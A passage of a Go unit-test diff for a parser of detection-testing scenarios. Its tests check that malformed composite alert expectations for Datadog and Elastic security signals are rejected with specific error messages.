+	assert.Equal(t, "(Datadog security signal 'initial access', then any of (Datadog security signal 'lateral movement', Elastic Security alert 'lateral movement'))", assertions[2].String())
+}
+
+func TestParserRejectsInvalidCompositeExpectations(t *testing.T) {
+	yamlInput := `
+scenarios:
+  - name: A
+    detonate:
+      localDetonator:
+        commands: ["whoami"]
+    expectations:
+      - %s
+`
+	scenarios, err := Parse([]byte(fmt.Sprintf(yamlInput, `{anyOf: [{datadogSecuritySignal: {name: foo}, elasticSecuritySignal: {name: bar}}]}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has a composite expectation with a matcher that does not define exactly one of datadogSecuritySignal, elasticSecuritySignal, anyOf, allOf or ordered")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{allOf: [{}]}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has a composite expectation with a matcher that does not define exactly one of datadogSecuritySignal, elasticSecuritySignal, anyOf, allOf or ordered")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{allOf: [{datadogSecuritySignal: {name: foo}}], count: {exactly: 2}}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.EqualError(t, err, "scenario 'A' has an alert count on a composite expectation, which is only supported by datadogSecuritySignal and elasticSecuritySignal")
+
+	scenarios, err = Parse([]byte(fmt.Sprintf(yamlInput, `{ordered: [{datadogSecuritySignal: {severity: high}}]}`)), "", "", "")
+	assert.Nil(t, scenarios)
+	assert.ErrorContains(t, err, "field name in DatadogSecuritySignalSchemaJson: required")
+}